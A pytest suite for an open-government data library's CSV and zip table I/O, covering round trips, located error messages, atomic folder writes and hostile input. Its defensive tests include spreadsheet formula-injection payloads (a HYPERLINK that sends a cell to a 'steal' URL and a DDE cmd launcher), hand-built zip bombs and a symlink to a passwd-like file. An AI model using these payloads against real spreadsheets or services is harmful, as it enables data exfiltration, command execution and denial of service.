"""CSV tables: lossless round trips (folder and zip), empty vs missing, formula injection,
and errors that name the table, row and column."""

from __future__ import annotations

import os
import signal
import struct
import sys
import zipfile
import zlib
from pathlib import Path
from typing import Any

import attrs
import pytest
from attrs import define, field
from hypothesis import HealthCheck, given, settings

import opengov
from _hostile import (
    HUGE,
    expect_load_error,
    expect_load_error_or_plan,
    load_isolated,
    write,
    write_tables,
)
from opengov import LoadError
from opengov.cli.main import main
from opengov.io import csv as ogcsv
from opengov.io._tables import Tables, flatten, unflatten
from opengov.model import ActionPlan, Commitment, Milestone, Organisation
from opengov.model._fields import facts, list_field
from opengov.testing import action_plans

SETTINGS = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)


@SETTINGS
@given(plan=action_plans())
def test_folder_round_trip(plan: ActionPlan, tmp_path_factory: pytest.TempPathFactory) -> None:
    folder = tmp_path_factory.mktemp("tables") / "plan"
    opengov.dump(plan, f"{folder}/")
    assert opengov.load(folder) == plan


@SETTINGS
@given(plan=action_plans())
def test_zip_round_trip_spreadsheet_safe(
    plan: ActionPlan, tmp_path_factory: pytest.TempPathFactory
) -> None:
    target = tmp_path_factory.mktemp("zip") / "plan.zip"
    opengov.dump(plan, target, spreadsheet_safe=True)
    assert opengov.load(target) == plan


def plan_with(**milestone: object) -> ActionPlan:
    return ActionPlan(
        id="p",
        country="FR",
        title="Plan, « quoted » and ’curly’",
        commitments=[
            Commitment(
                id="p/c01",
                number=1,
                title="Line one\nline two; 🎉",
                milestones=[Milestone(id="p/c01/m1", title="m", **milestone)],  # type: ignore[arg-type]
            )
        ],
    )


def test_empty_text_and_missing_stay_distinct(tmp_path: Path) -> None:
    plan = plan_with(description="", evidence=None)
    opengov.dump(plan, f"{tmp_path}/t/")
    text = (tmp_path / "t" / "milestones.csv").read_text(encoding="utf-8")
    assert ',"",' in text, "empty text is a quoted empty field"
    again = opengov.load(tmp_path / "t")
    assert again.commitments[0].milestones[0].description == ""
    assert again.commitments[0].milestones[0].evidence is None


PAYLOADS = [
    '=HYPERLINK("http://example.com/steal?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'",
    "plain",
]


@pytest.mark.hostile
@pytest.mark.parametrize("payload", PAYLOADS)
def test_spreadsheet_safe_neutralises_formulas(payload: str, tmp_path: Path) -> None:
    plan = plan_with(description=payload)
    opengov.dump(plan, tmp_path / "safe.zip", spreadsheet_safe=True)
    with zipfile.ZipFile(tmp_path / "safe.zip") as archive:
        raw = archive.read("milestones.csv").decode("utf-8")
    header, rows = ogcsv.decode_table(raw, "milestones")
    cell = rows[0][header.index("description")]
    assert cell is not None
    if payload.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")):
        assert cell.startswith("'"), cell
    else:
        assert cell == payload
    assert opengov.load(tmp_path / "safe.zip").commitments[0].milestones[0].description == payload


def test_unsafe_tables_keep_text_as_is(tmp_path: Path) -> None:
    plan = plan_with(description="=1+1")
    opengov.dump(plan, f"{tmp_path}/t/")
    assert "=1+1" in (tmp_path / "t" / "milestones.csv").read_text(encoding="utf-8")
    assert "'=1+1" not in (tmp_path / "t" / "milestones.csv").read_text(encoding="utf-8")


def tables_of(plan: ActionPlan, tmp_path: Path) -> Path:
    folder = tmp_path / "t"
    opengov.dump(plan, f"{folder}/")
    return folder


def load_problems(folder: Path) -> list[str]:
    with pytest.raises(LoadError) as caught:
        opengov.load(folder)
    assert caught.value.source == str(folder)
    return [p.located for p in caught.value.issues]


def test_bad_cell_names_table_row_and_column(tmp_path: Path) -> None:
    folder = tables_of(plan_with(), tmp_path)
    path = folder / "commitments.csv"
    path.write_text(
        path.read_text(encoding="utf-8").replace("p/c01,1,", "p/c01,one,"), encoding="utf-8"
    )
    assert load_problems(folder) == [
        "commitments.csv row 2, column number: expected a whole number, got 'one'"
    ]


def test_structure_errors_are_translated_to_cells(tmp_path: Path) -> None:
    folder = tables_of(plan_with(), tmp_path)
    path = folder / "milestones.csv"
    path.write_text(
        path.read_text(encoding="utf-8").replace(",unknown,", ",finished,"), encoding="utf-8"
    )
    (problem,) = load_problems(folder)
    assert problem.startswith(
        "milestones.csv row 2, column status: 'finished' is not a milestone status code"
    )


def test_orphan_rows_are_reported_not_dropped(tmp_path: Path) -> None:
    folder = tables_of(plan_with(), tmp_path)
    path = folder / "milestones.csv"
    path.write_text(
        path.read_text(encoding="utf-8").replace("p,p/c01,1,", "p,p/c99,1,"), encoding="utf-8"
    )
    (problem,) = load_problems(folder)
    assert problem.startswith("milestones.csv row 2: belongs to no row of its parent table")
    assert "commitment_id 'p/c99'" in problem


@pytest.mark.parametrize(
    ("table", "edit", "message"),
    [
        ("milestones", lambda t: t.replace("status,", "colour,", 1), "unknown column(s): colour"),
        ("milestones", lambda t: t + 'p,"p/c01,1\r\n', "malformed CSV"),
        ("milestones", lambda t: t + "p,p/c01\r\n", "has 2 cells, the header has"),
        ("plans", lambda t: t.split("\r\n")[0] + "\r\n", "expected exactly one row, found 0"),
        ("meta", lambda t: t.replace("action_plan", "budget"), "kind must be one of"),
    ],
)
def test_malformed_tables(tmp_path: Path, table: str, edit: object, message: str) -> None:
    folder = tables_of(plan_with(), tmp_path)
    path = folder / f"{table}.csv"
    path.write_text(edit(path.read_bytes().decode("utf-8")), encoding="utf-8", newline="")  # type: ignore[operator]
    assert any(message in p for p in load_problems(folder)), load_problems(folder)


def test_problems_carry_a_code_for_their_kind(tmp_path: Path) -> None:
    """A cell of the wrong type, a structure error translated to its cell, an orphan row: each
    issue keeps the code of its kind, wherever the loader found it."""
    folder = tables_of(plan_with(), tmp_path)
    commitments, milestones = folder / "commitments.csv", folder / "milestones.csv"
    text = commitments.read_text(encoding="utf-8")
    commitments.write_text(text.replace("p/c01,1,", "p/c01,one,"), encoding="utf-8")
    with pytest.raises(LoadError) as caught:
        opengov.load(folder)
    assert [(p.path, p.code) for p in caught.value.issues] == [
        ("commitments.csv row 2, column number", "wrong-type")
    ]
    commitments.write_text(text, encoding="utf-8")
    original = milestones.read_text(encoding="utf-8")
    milestones.write_text(original.replace(",unknown,", ",finished,"), encoding="utf-8")
    with pytest.raises(LoadError) as caught:
        opengov.load(folder)
    assert [(p.path, p.code) for p in caught.value.issues] == [
        ("milestones.csv row 2, column status", "bad-value")
    ]
    milestones.write_text(original.replace("p,p/c01,1,", "p,p/c99,1,"), encoding="utf-8")
    with pytest.raises(LoadError) as caught:
        opengov.load(folder)
    assert [(p.path, p.code) for p in caught.value.issues] == [
        ("milestones.csv row 2", "csv-orphan")
    ]


def test_unknown_table_and_missing_meta(tmp_path: Path) -> None:
    folder = tables_of(plan_with(), tmp_path)
    (folder / "budget.csv").write_text("a\r\n1\r\n", encoding="utf-8")
    assert any("budget.csv: unknown table" in p for p in load_problems(folder))
    (folder / "budget.csv").unlink()
    (folder / "meta.csv").unlink()
    assert load_problems(folder) == ["meta.csv: missing: the tables need their meta.csv"]


def test_bad_zip(tmp_path: Path) -> None:
    bad = tmp_path / "bad.zip"
    bad.write_bytes(b"PK\x03\x04 not really")
    with pytest.raises(LoadError, match="not a readable zip file"):
        opengov.load(bad)


def test_convert_command_writes_tables(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["convert", "fr-2018-2020", f"{tmp_path}/fr/", "--no-personal-data"]) == 0
    assert (tmp_path / "fr" / "milestones.csv").is_file()
    assert (tmp_path / "fr" / "contacts.csv").read_bytes().count(b"\r\n") == 1
    assert main(["convert", str(tmp_path / "fr"), str(tmp_path / "fr.json")]) == 0
    assert opengov.load(tmp_path / "fr.json") == opengov.load(tmp_path / "fr")
    assert main(["validate", str(tmp_path / "fr")]) == 0


def test_tables_of_the_france_plan(france: ActionPlan) -> None:
    files = ogcsv.to_text_files(france)
    for name in (
        "plans.csv",
        "commitments.csv",
        "milestones.csv",
        "organisations.csv",
        "contacts.csv",
        "commitment_resources.csv",
        "participation.csv",
        "key_recommendations.csv",
        "response_echoes.csv",
    ):
        assert name in files
    header = files["milestones.csv"].split("\r\n")[0].split(",")
    assert header[:4] == ["plan_id", "commitment_id", "position", "id"]
    assert files["milestones.csv"].count("\r\n") == 1 + 61


# A model extended by subclassing: the tables follow the description, with no edit to them.


@define(kw_only=True)
class FundedCommitment(Commitment):
    funding_note: str | None = None
    funders: list[str] = list_field()
    funder: str | None = field(default=None, metadata=facts(references=Organisation))
    officer: str | None = field(default=None, metadata=facts(personal=True, plain=True))


@define(kw_only=True)
class FundedPlan(ActionPlan):
    commitments: list[FundedCommitment] = list_field()  # type: ignore[assignment]


def through_csv_text(tables: Tables, cls: type) -> Tables:
    """The tables of a ``cls`` written as CSV text and read back."""
    again: Tables = {}
    for name, rows in tables.items():
        header = ogcsv.schema_for(cls)[name].header
        text = ogcsv.encode_table(header, [[row[c] for c in header] for row in rows])
        header, cells = ogcsv.decode_table(text, name)
        again[name] = [dict(zip(header, row, strict=True)) for row in cells]
    return again


def test_new_fields_of_a_subclass_get_columns_and_tables() -> None:
    plan_tables = ogcsv.schema_for(ActionPlan)
    funded_tables = ogcsv.schema_for(FundedPlan)
    assert set(funded_tables) == {*plan_tables, "commitment_funders"}
    header = funded_tables["commitments"].header
    assert header[: len(plan_tables["commitments"].header)] == plan_tables["commitments"].header
    assert header[-3:] == ["funding_note", "funder", "officer"]
    assert funded_tables["commitment_funders"].header == [
        "plan_id",
        "commitment_id",
        "position",
        "value",
    ]
    # a commitment on its own is a document of tables too, named as in a plan
    alone = ogcsv.schema_for(FundedCommitment)
    assert list(alone)[:2] == ["commitments", "commitment_other_titles"]
    assert "milestones" in alone and "commitment_funders" in alone


def test_new_fields_of_a_subclass_round_trip() -> None:
    france = opengov.datasets.load("fr-2018-2020")
    first, second = (attrs.asdict(c, recurse=False) for c in france.commitments[:2])
    funded = [
        FundedCommitment(
            **first,
            funding_note="1,5 M€",
            funders=["Etalab", "", "=1+1"],
            funder=france.organisations[0].id,
            officer="Jeanne Martin",
        ),
        FundedCommitment(**second, funding_note=""),
    ]
    plan = FundedPlan(**{**attrs.asdict(france, recurse=False), "commitments": funded})
    tables = flatten(plan)
    assert [row["value"] for row in tables["commitment_funders"]] == ["Etalab", "", "=1+1"]
    assert tables["commitments"][0]["funder"] == france.organisations[0].id
    assert tables["commitments"][0]["officer"] == "Jeanne Martin"
    assert tables["commitments"][1]["funding_note"] == ""
    assert tables["commitments"][1]["officer"] is None
    assert unflatten(through_csv_text(tables, FundedPlan), FundedPlan) == plan
    assert (
        unflatten(through_csv_text(flatten(funded[0]), FundedCommitment), FundedCommitment)
        == funded[0]
    )


# --- hostile input -----------------------------------------------------------------------------


def replace_cell(text: str, row: int, column: str, value: str | None) -> str:
    """Set one cell of a CSV table (row 2 is the first data row) by column name."""
    header, rows = ogcsv.decode_table(text, "t")
    rows[row - 2][header.index(column)] = value
    return ogcsv.encode_table(header, rows)


def deep_evidence_tables(plan: ActionPlan, positions: list[str]) -> dict[str, str]:
    files = ogcsv.to_text_files(plan)
    rows = files["assessment_evidence.csv"].rstrip("\r\n").split("\r\n")
    rows += [f"fr-2018-2020,fr-2018-2020/participation/01,{p},x," for p in positions]
    files["assessment_evidence.csv"] = "\r\n".join(rows) + "\r\n"
    return files


@pytest.mark.hostile
@pytest.mark.parametrize("depth", [100, 1_000, 5_000])
def test_deeply_nested_evidence_csv(depth: int, tmp_path: Path, france: ActionPlan) -> None:
    positions = ["9" + ".1" * level for level in range(depth)]
    folder = write_tables(tmp_path / "tables", dict(deep_evidence_tables(france, positions)))
    expect_load_error_or_plan(lambda: opengov.load(folder))


@pytest.mark.hostile
def test_csv_evidence_row_without_position(tmp_path: Path, france: ActionPlan) -> None:
    """An empty position makes a row its own parent: must be a LoadError, not endless recursion."""
    files = ogcsv.to_text_files(france)
    files["assessment_evidence.csv"] = replace_cell(
        files["assessment_evidence.csv"], 2, "position", None
    )
    folder = write_tables(tmp_path / "tables", dict(files))
    expect_load_error(lambda: opengov.load(folder))


@pytest.mark.hostile
def test_csv_duplicated_evidence_positions_are_not_a_bomb(
    tmp_path: Path, france: ActionPlan
) -> None:
    """Two rows per position, 24 levels deep (48 rows): each level doubles what is built if rows
    sharing a position all adopt the same children (2**25 evidence items). A LoadError (two
    items share a position, as the RDF reader says) or a plan, but quickly."""
    positions = []
    for level in range(24):
        positions += ["9" + ".1" * level] * 2
    folder = write_tables(tmp_path / "tables", dict(deep_evidence_tables(france, positions)))
    result = load_isolated(folder)
    assert result["outcome"] in ("LoadError", "loaded"), result


def raw_zip(members: list[tuple[str, bytes, int, int, int, int]]) -> bytes:
    """A zip by hand: (name, data as stored, crc, declared size, method, flags) per member."""
    out, central = bytearray(), bytearray()
    for name, data, crc, size, method, flags in members:
        offset = len(out)
        encoded = name.encode("utf-8")
        out += struct.pack(
            "<4s5H3L2H",
            b"PK\x03\x04",
            20,
            flags,
            method,
            0,
            0,
            crc,
            len(data),
            size,
            len(encoded),
            0,
        )
        out += encoded + data
        central += struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            flags,
            method,
            0,
            0,
            crc,
            len(data),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += encoded
    count = len(members)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), len(out), 0)
    return bytes(out + central + end)


def deflated(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def stored_member(name: str, data: bytes, **changes: int) -> tuple[str, bytes, int, int, int, int]:
    member = {"crc": zlib.crc32(data), "size": len(data), "method": 0, "flags": 0, **changes}
    return (name, data, member["crc"], member["size"], member["method"], member["flags"])


def tables_zip(plan: ActionPlan, extra: list[tuple[str, bytes, int, int, int, int]]) -> bytes:
    files = ogcsv.to_text_files(plan)
    members = [stored_member(name, text.encode()) for name, text in files.items()]
    return raw_zip(members + extra)


@pytest.mark.hostile
def test_zip_member_declaring_a_huge_size(tmp_path: Path, france: ActionPlan) -> None:
    data = deflated(b"a,b\r\n" * 1000)
    member = ("commitments.csv", data, 0, 0xFFFFFFF0, zipfile.ZIP_DEFLATED, 0)
    path = write(tmp_path / "bomb.zip", tables_zip(france, [member]))
    expect_load_error(lambda: opengov.load(path))


@pytest.mark.hostile
def test_zip_member_larger_than_it_declares(tmp_path: Path) -> None:
    content = b"\x00" * (50 * 2**20)
    member = (
        "commitments.csv",
        deflated(content),
        zlib.crc32(content),
        100,
        zipfile.ZIP_DEFLATED,
        0,
    )
    path = write(tmp_path / "liar.zip", raw_zip([member]))
    expect_load_error(lambda: opengov.load(path))


ZIP_DAMAGE = {
    "corrupt deflate stream": ("deflate", 0),
    "unsupported compression method": ("method", 99),
    "encrypted member": ("flags", 0x1),
    "name not UTF-8 under the UTF-8 flag": ("name", 0x800),
    "member without a name": ("empty name", 0),
    "version needed to extract too new": ("version", 99),
}


@pytest.mark.hostile
@pytest.mark.parametrize("damage", sorted(ZIP_DAMAGE))
def test_damaged_zip_member(damage: str, tmp_path: Path, france: ActionPlan) -> None:
    what, value = ZIP_DAMAGE[damage]
    content = ogcsv.to_text_files(france)["commitments.csv"].encode()
    data = deflated(content)
    name = "commitments.csv"
    method, flags = zipfile.ZIP_DEFLATED, 0
    if what == "deflate":
        data = data[:100] + bytes(b ^ 0x55 for b in data[100:200]) + data[200:]
    elif what == "method":
        method = value
    elif what == "flags":
        flags = value
    archive = tables_zip(france, [(name, data, zlib.crc32(content), len(content), method, flags)])
    if what == "name":
        archive = tables_zip(france, [stored_member("x.csv", b"key,value\r\n", flags=value)])
        archive = archive.replace(b"x.csv", b"\xcf.csv")
    elif what == "empty name":
        archive = tables_zip(france, [stored_member("", b"key,value\r\n")])
    elif what == "version":  # the central directory's "version needed to extract" (9.9)
        central = bytearray(archive)
        struct.pack_into("<H", central, archive.index(b"PK\x01\x02") + 6, value)
        archive = bytes(central)
    path = write(tmp_path / "damaged.zip", archive)
    expect_load_error(lambda: opengov.load(path))


@pytest.mark.hostile
def test_zip_bomb_of_many_tables_within_the_per_table_limit(tmp_path: Path) -> None:
    """16 tables of 256 MiB of zeros each (4 GiB in all, 4 MiB of zip): each is under the
    512 MiB per-table limit, so only a limit on the whole archive (or on the compression ratio)
    stops it. Run with 1 GiB of address space: anything but a LoadError fails."""
    compressor, crc, chunk = zlib.compressobj(9, zlib.DEFLATED, -15), 0, bytes(2**20)
    parts = []
    for _ in range(256):
        parts.append(compressor.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    zeros = b"".join(parts) + compressor.flush()
    members = [(f"t{i:02}.csv", zeros, crc, 2**28, zipfile.ZIP_DEFLATED, 0) for i in range(16)]
    path = write(tmp_path / "bomb.zip", raw_zip(members))
    result = load_isolated(path)
    assert result["outcome"] == "LoadError", result


@pytest.mark.hostile
@pytest.mark.parametrize("where", ["same name", "in a subfolder"])
def test_zip_with_a_table_twice(where: str, tmp_path: Path, france: ActionPlan) -> None:
    """Two ``plans.csv`` in one archive: tools disagree on which one counts (the first, the
    last), so the same file would show different plans. Refuse it."""
    spoofed = ogcsv.to_text_files(attrs.evolve(france, title="Spoofed title"))["plans.csv"]
    duplicate = "plans.csv" if where == "same name" else "other/plans.csv"
    archive = tables_zip(france, [stored_member(duplicate, spoofed.encode())])
    expect_load_error(lambda: opengov.load(write(tmp_path / "twice.zip", archive)))


@pytest.mark.hostile
def test_huge_numbers_csv(tmp_path: Path, france: ActionPlan) -> None:
    files = ogcsv.to_text_files(france)
    files["commitments.csv"] = replace_cell(files["commitments.csv"], 2, "number", HUGE)
    expect_load_error(lambda: opengov.load(write_tables(tmp_path / "tables", dict(files))))


@pytest.mark.hostile
def test_csv_unbalanced_quote_at_end(tmp_path: Path, france: ActionPlan) -> None:
    files: dict[str, str | bytes] = dict(ogcsv.to_text_files(france))
    files["milestones.csv"] = str(files["milestones.csv"]) + '"never closed' + "x" * 2**20
    error = expect_load_error(lambda: opengov.load(write_tables(tmp_path / "tables", files)))
    assert any("milestones.csv" in p.path for p in error.issues), str(error)


@pytest.mark.hostile
def test_csv_header_with_line_breaks_in_a_problem(tmp_path: Path, france: ActionPlan) -> None:
    files: dict[str, str | bytes] = dict(ogcsv.to_text_files(france))
    header, rows = ogcsv.decode_table(str(files["consultations.csv"]), "consultations")
    files["consultations.csv"] = ogcsv.encode_table(
        [*header, "line one\nline two"], [[*row, None] for row in rows]
    )
    expect_load_error(lambda: opengov.load(write_tables(tmp_path / "tables", files)))


# --- rejected before the rows are read: bombs, huge directories, links ------------------------

#: What rejecting any hostile input may cost (the interpreter and the library included).
REJECT_PEAK_MB, REJECT_SECONDS = 200, 10


def _streamed_deflate(header: bytes, line: bytes, total: int) -> tuple[bytes, int, int]:
    """``header`` then ``line`` repeated to ``total`` bytes, deflated in chunks: (data, crc,
    size), without holding the whole text."""
    compressor, crc, size, parts = zlib.compressobj(9, zlib.DEFLATED, -15), 0, 0, []
    chunk = line * (2**20 // len(line))
    for piece in [header] + [chunk] * (total // len(chunk)):
        parts.append(compressor.compress(piece))
        crc, size = zlib.crc32(piece, crc), size + len(piece)
    return b"".join(parts) + compressor.flush(), crc, size


def _meta(plan: ActionPlan) -> tuple[str, bytes, int, int, int, int]:
    return stored_member("meta.csv", ogcsv.to_text_files(plan)["meta.csv"].encode())


def _rejected_cheaply(path: Path) -> dict[str, object]:
    result = load_isolated(path)
    assert result["outcome"] == "LoadError", result
    assert float(str(result["peak_mb"])) < REJECT_PEAK_MB, result
    assert float(str(result["seconds"])) < REJECT_SECONDS, result
    return result


@pytest.mark.hostile
def test_a_table_compressed_a_thousand_times_is_refused_unread(
    tmp_path: Path, france: ActionPlan
) -> None:
    """100 MiB of rows in a few hundred KB, under an unknown column: refused from its sizes."""
    data, crc, size = _streamed_deflate(b"no_such_column\r\n", b"x\r\n", 100 * 2**20)
    bomb = ("commitments.csv", data, crc, size, zipfile.ZIP_DEFLATED, 0)
    path = write(tmp_path / "bomb.zip", raw_zip([_meta(france), bomb]))
    assert path.stat().st_size < 500_000
    result = _rejected_cheaply(path)
    assert "compressed" in str(result["problems"])


@pytest.mark.hostile
def test_an_unknown_column_is_refused_before_the_rows(tmp_path: Path, france: ActionPlan) -> None:
    """A 60 MiB table stored uncompressed (no ratio to catch) with an unknown column costs one
    line, in a zip and in a folder."""
    header, rows = b"id,title,no_such_column\r\n", b"x,y,z\r\n" * (10 * 2**20)
    table = header + rows
    member = stored_member("commitments.csv", table)
    path = write(tmp_path / "stored.zip", raw_zip([_meta(france), member]))
    result = _rejected_cheaply(path)
    assert "no_such_column" in str(result["problems"])
    folder = write_tables(
        tmp_path / "tables",
        {"meta.csv": ogcsv.to_text_files(france)["meta.csv"], "commitments.csv": table},
    )
    _rejected_cheaply(folder)


@pytest.mark.hostile
def test_a_million_entry_directory_is_refused_from_the_end_record(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The count is read from the ZIP64 end record before the directory is parsed."""
    count = 1_000_000
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, 0, 0)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, 0, 1)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    path = write(tmp_path / "many.zip", record + locator + end)
    assert ogcsv.zip_entry_count(path) == count

    def no_parsing(*args: object, **kwargs: object) -> None:
        raise AssertionError("the central directory was parsed")

    monkeypatch.setattr(zipfile, "ZipFile", no_parsing)
    error = expect_load_error(lambda: opengov.load(path))
    assert "1,000,000 files" in str(error)


@pytest.mark.hostile
def test_many_members_are_refused_before_the_directory_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    members = [stored_member(f"t{i}.csv", b"") for i in range(1_500)]
    path = write(tmp_path / "many.zip", raw_zip(members))
    assert ogcsv.zip_entry_count(path) == 1_500
    monkeypatch.setattr(zipfile, "ZipFile", None)
    assert "1,500 files" in str(expect_load_error(lambda: opengov.load(path)))


@pytest.mark.hostile
def test_stray_tables_give_one_bounded_message(tmp_path: Path, france: ActionPlan) -> None:
    files: dict[str, str | bytes] = {"meta.csv": ogcsv.to_text_files(france)["meta.csv"]}
    files |= {f"stray{i}.csv": "a\r\n" for i in range(1_200)}
    folder = write_tables(tmp_path / "tables", files)
    message = str(expect_load_error(lambda: opengov.load(folder)))
    assert len(message.splitlines()) <= 3
    assert "more than the 1000" in message
    files = dict(list(files.items())[:30])
    message = str(expect_load_error(lambda: opengov.load(write_tables(tmp_path / "t2", files))))
    assert "and " in message and "more" in message  # the expected tables are listed, capped


@pytest.mark.hostile
def test_too_many_rows_are_refused_before_they_are_parsed(
    tmp_path: Path, france: ActionPlan, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ogcsv, "_MAX_ROWS", 5)
    files: dict[str, str | bytes] = dict(ogcsv.to_text_files(france))
    error = expect_load_error(lambda: opengov.load(write_tables(tmp_path / "t", files)))
    assert "rows a table may have" in str(error)


@pytest.mark.hostile
def test_a_link_in_the_folder_is_refused_and_never_read(tmp_path: Path, france: ActionPlan) -> None:
    secret = write(tmp_path / "secret.txt", "root:x:0:0:root:/root:/bin/bash\n")
    folder = write_tables(tmp_path / "tables", dict(ogcsv.to_text_files(france)))
    (folder / "commitments.csv").unlink()
    (folder / "commitments.csv").symlink_to(secret)
    message = str(expect_load_error(lambda: opengov.load(folder)))
    assert "link" in message
    assert "0:0" not in message


@pytest.mark.hostile
def test_a_header_that_is_not_column_names_is_not_quoted(
    tmp_path: Path, france: ActionPlan
) -> None:
    files: dict[str, str | bytes] = dict(ogcsv.to_text_files(france))
    files["commitments.csv"] = "root:x:0:0:root:/root:/bin/bash,titel\r\n"
    message = str(expect_load_error(lambda: opengov.load(write_tables(tmp_path / "t", files))))
    assert "titel" in message  # a misspelt column is named, to be fixed
    assert "0:0" not in message  # a line of another file is not echoed
    assert "1 header cell(s) that are not column names" in message


# --- a folder of tables is the old document or the new one, never a mix -------------------------

#: What a write does to the file system, as Python's audit hooks name it.
_WRITE_EVENTS = frozenset(
    {
        "open",
        "os.mkdir",
        "os.rename",
        "os.replace",
        "os.link",
        "os.symlink",
        "os.chmod",
        "os.remove",
        "os.rmdir",
        "shutil.rmtree",
        "shutil.copyfile",
        "ctypes.call_function",
    }
)


def _two_plans() -> tuple[ActionPlan, ActionPlan]:
    old = ActionPlan(
        id="x",
        country="FR",
        title="Old",
        commitments=[
            Commitment(
                id="x/c1",
                number=1,
                title="c1",
                milestones=[Milestone(id="x/c1/m1", title="m1")],
            )
        ],
        organisations=[Organisation(id="x/org/o", name="O")],
    )
    new = ActionPlan(
        id="x",
        country="FR",
        title="New",
        commitments=[Commitment(id="x/c9", number=9, title="c9")],
    )
    return old, new


def _write_killed_at(step: int, plan: ActionPlan, folder: Path) -> bool:
    """Write ``plan`` into ``folder`` in a child killed at its ``step``-th file-system call;
    True if it was killed (False: the write finished first)."""
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        calls = 0

        def kill_at_step(event: str, _: tuple[object, ...]) -> None:
            nonlocal calls
            if event in _WRITE_EVENTS:
                calls += 1
                if calls == step:
                    os.kill(os.getpid(), signal.SIGKILL)

        sys.addaudithook(kill_at_step)
        code = 1
        try:
            opengov.dump(plan, folder, format="csv")
            code = 0
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    assert os.WIFSIGNALED(status) or os.waitstatus_to_exitcode(status) == 0, "the writer failed"
    return os.WIFSIGNALED(status)


@pytest.mark.hostile
@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork to kill a writer")
def test_a_folder_write_killed_at_any_point_leaves_the_old_or_the_new(tmp_path: Path) -> None:
    old, new = _two_plans()
    folder = tmp_path / "tables"
    seen: list[str] = []
    for step in range(1, 500):
        opengov.dump(old, folder, format="csv")
        killed = _write_killed_at(step, new, folder)
        found = opengov.load(folder, format="csv")
        assert found in (old, new), f"a mix after a kill at step {step}"
        seen.append("new" if found == new else "old")
        if not killed:
            break
    assert not killed, "the write never finished"
    assert seen[0] == "old" and seen[-1] == "new" and len(seen) > 10
    # What is not a table is carried over into the new folder.
    (folder / "README.txt").write_text("notes", encoding="utf-8")
    opengov.dump(old, folder, format="csv")
    assert (folder / "README.txt").read_text(encoding="utf-8") == "notes"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")], "a temporary is left"


@pytest.mark.hostile
@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork for concurrent writers")
def test_concurrent_folder_writers_never_mix(tmp_path: Path) -> None:
    old, new = _two_plans()
    folder = tmp_path / "tables"
    opengov.dump(old, folder, format="csv")
    writers = []
    for plan in (old, new):
        pid = os.fork()
        if pid == 0:  # pragma: no cover - the child
            code = 1
            try:
                for _ in range(40):
                    opengov.dump(plan, folder, format="csv")
                code = 0
            finally:
                os._exit(code)
        writers.append(pid)
    reads, running, codes = 0, set(writers), []
    while running:
        for pid in list(running):
            ended, status = os.waitpid(pid, os.WNOHANG)
            if ended == pid:  # ended (and reaped)
                running.discard(pid)
                codes.append(os.waitstatus_to_exitcode(status))
        try:
            found = opengov.load(folder, format="csv")
        except LoadError as exc:  # replaced again and again while it was read: said, not mixed
            found = str(exc)
        assert found in (old, new) or "changed while it was read" in str(found)
        reads += 1
    assert opengov.load(folder, format="csv") in (old, new)
    assert reads > 0
    assert codes == [0, 0], "a writer failed"


@pytest.mark.hostile
@pytest.mark.parametrize("left", ["some tables", "no tables"])
def test_a_folder_swapped_and_emptied_while_read_is_read_again(
    left: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The reader holds the old folder open; a writer puts the new one in its place and starts
    removing the old one before the reader lists it. What the reader sees is part of the old
    plan (or nothing): it reads the folder again instead of loading a plan missing tables."""
    old, new = _two_plans()
    folder, aside = tmp_path / "tables", tmp_path / "aside"
    opengov.dump(old, folder, format="csv")
    real_listdir = os.listdir
    swapped: list[bool] = []

    def listdir(target: Any) -> list[str]:
        if not swapped and isinstance(target, int):
            swapped.append(True)
            os.rename(folder, aside)  # the folder held open is now this one
            opengov.dump(new, folder, format="csv")
            kept = {"meta.csv", "plans.csv"} if left == "some tables" else set()
            for name in real_listdir(aside):
                if name not in kept:
                    os.unlink(aside / name)
        return real_listdir(target)

    monkeypatch.setattr(os, "listdir", listdir)
    assert opengov.load(folder, format="csv") == new
    assert swapped == [True]
